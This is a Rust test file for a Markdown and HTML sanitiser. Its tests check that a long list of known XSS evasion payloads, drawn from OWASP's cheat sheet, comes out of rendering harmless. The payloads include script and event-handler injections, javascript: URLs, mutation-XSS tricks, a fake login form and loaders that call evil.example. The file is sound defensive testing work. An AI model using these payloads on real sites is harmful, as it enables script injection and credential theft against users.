use scraper::{Html, Node};

use super::*;

/// Ways in that have worked somewhere, after OWASP's "XSS Filter Evasion Cheat Sheet" and bug reports of Markdown
/// renderers. What counts is not their spelling but what a browser would make of the result.
const VECTORS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
    "<img src='https://evil.example/pixel.gif'>",
    "<img src='//evil.example/pixel.gif'>",
    "<img src='/\\evil.example/pixel.gif'>",
    "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
    "![x](https://evil.example/pixel.gif)",
    "![x](data:text/html,<script>alert(1)</script>)",
    "![x](x \"onerror=alert(1)\")",
    "![\"onerror=\"alert(1)](x)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\u{1}javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](https://good.example/\" onmouseover=\"alert(1))",
    "[x](//evil.example/path)",
    "<a href='//evil.example/path'>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href=\"jav\tascript:alert(1)\">x</a>",
    "<a href=\"&#14; javascript:alert(1)\">x</a>",
    "<a href=https://good.example onclick=alert(1)>x</a>",
    "<a href=https://good.example target=_blank>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=position:fixed;inset:0>x</p>",
    "<div id=account class=button>x</div>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<textarea autofocus onfocus=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<table background=\"javascript:alert(1)\"><tr><td>x</td></tr></table>",
    "<template><script>alert(1)</script></template>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "`</code><script>alert(1)</script>`",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    "```\"><script>alert(1)</script>\nx\n```",
    "# <script>alert(1)</script>",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "> <img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<https://good.example/\"onmouseover=\"alert(1)>",
    "<p>\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<a href=\"https://good.example\" ping=\"https://evil.example\">x</a>",
    "<img srcset=\"https://evil.example/x.png 1x\">",
    "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
    "<dialog open>x</dialog>",
    "<p onclick=alert(1) lang=en>x</p>",
    "<custom-element is=script>x</custom-element>",
    "<p contenteditable accesskey=x tabindex=1 slot=x>x</p>",
];

const ELEMENTS: &[&str] = &[
    "a",
    "abbr",
    "acronym",
    "b",
    "bdi",
    "blockquote",
    "br",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "i",
    "img",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "rtc",
    "ruby",
    "s",
    "samp",
    "small",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "tt",
    "u",
    "ul",
    "var",
    "wbr",
];

const ATTRIBUTES: &[&str] = &[
    "href", "hreflang", "rel", "src", "alt", "title", "lang", "width", "height", "align", "cite", "datetime",
    "start", "colspan", "rowspan", "headers", "scope", "span", "char", "charoff", "summary", "size", "dir",
];

/// Everything in `html` that is not on the lists, as a browser's parser sees it.
fn trespassers(html: &str) -> Vec<String> {
    let mut found = Vec::new();
    for node in Html::parse_fragment(html).tree.nodes() {
        match node.value() {
            Node::Element(e) => {
                // What the parser puts around a fragment; inside one these tags are ignored.
                let frame = ["html", "head", "body"].contains(&e.name());
                if !frame && !ELEMENTS.contains(&e.name()) {
                    found.push(format!("<{}>", e.name()));
                }
                for (name, value) in e.attrs() {
                    let v = value.trim().to_ascii_lowercase();
                    let good_url = match (e.name(), name) {
                        ("img", "src") => is_local(value),
                        (_, "href" | "cite" | "src") => {
                            !v.starts_with("//")
                                && (!v.split(['/', '?', '#']).next().unwrap_or_default().contains(':')
                                    || ["http:", "https:", "mailto:"].iter().any(|s| v.starts_with(s)))
                        }
                        _ => true,
                    };
                    if !ATTRIBUTES.contains(&name) || !good_url {
                        found.push(format!("{}={value:?} on <{}>", name, e.name()));
                    }
                }
            }
            Node::Comment(c) => found.push(format!("comment {:?}", &**c)),
            Node::Doctype(_) | Node::ProcessingInstruction(_) => found.push("a declaration".into()),
            Node::Document | Node::Fragment | Node::Text(_) => {}
        }
    }
    found
}

#[test]
fn no_known_way_in_leads_anywhere() {
    for vector in VECTORS {
        for profile in [Profile::Article, Profile::Comment] {
            for wrapped in
                [(*vector).to_owned(), format!("text *{vector}* text"), format!("- {vector}\n- item")]
            {
                let html = render(profile, &wrapped);
                let found = trespassers(&html);
                assert!(found.is_empty(), "{profile:?}: {wrapped:?} became {html:?}: {found:?}");
            }
        }
    }
}

#[test]
fn the_check_itself_sees_what_it_should() {
    for bad in [
        "<script></script>",
        "<img src=x onerror=y>",
        "<a href='javascript:x'>",
        "<img src='//x'>",
        "<!-- -->",
    ] {
        assert!(!trespassers(bad).is_empty(), "{bad}");
    }
}

#[test]
fn sanitising_is_stable() {
    for vector in VECTORS {
        let once = render(Profile::Article, vector);
        assert_eq!(ARTICLE.clean(&once).to_string(), once, "{vector:?}: a second pass changed the result");
    }
}

#[test]
fn articles_keep_their_formatting() {
    let html = render(
        Profile::Article,
        "# One\n\nSome *text*, `code` and a [link](/articles/x).\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n\
         ```sql\nSELECT 1 < 2;\n```\n\n![A picture](/pictures/x.png)\n\n<details><summary>More</summary>text</details>\n",
    );
    for part in [
        "<h2>One</h2>",
        "<em>text</em>",
        "<code>code</code>",
        "<a href=\"/articles/x\" rel=\"noopener noreferrer\">link</a>",
        "<td>1</td>",
        "SELECT 1 &lt; 2;",
        "<img src=\"/pictures/x.png\" alt=\"A picture\">",
        "<details><summary>More</summary>text</details>",
    ] {
        assert!(html.contains(part), "{part} is missing in {html}");
    }
}

#[test]
fn comments_show_html_as_it_was_typed_and_keep_to_their_list() {
    let html = render(
        Profile::Comment,
        "<b>bold</b> **strong** # no\n\n# heading\n\n![p](/x.png) [l](https://a.example)",
    );
    assert!(html.contains("&lt;b&gt;bold&lt;/b&gt; <strong>strong</strong>"), "{html}");
    assert!(!html.contains("<h") && !html.contains("<img"), "{html}");
    assert!(html.contains("rel=\"noopener noreferrer nofollow ugc\""), "{html}");
}

#[test]
fn plain_text_and_summaries() {
    let text = "# Title\n\nThe *first* paragraph\nof `two`.\n\nThe second.\n\n- item\n";
    assert_eq!(plain_text(text), "Title The first paragraph of two. The second. item");
    assert_eq!(first_paragraph(text, 200), "The first paragraph of two.");
    assert_eq!(first_paragraph(text, 12), "The first…");
    assert_eq!(first_paragraph("# only a heading", 200), "");
    assert_eq!(first_paragraph("Some <script>alert(1)</script><b>bold</b> text.", 200), "Some bold text.");
}
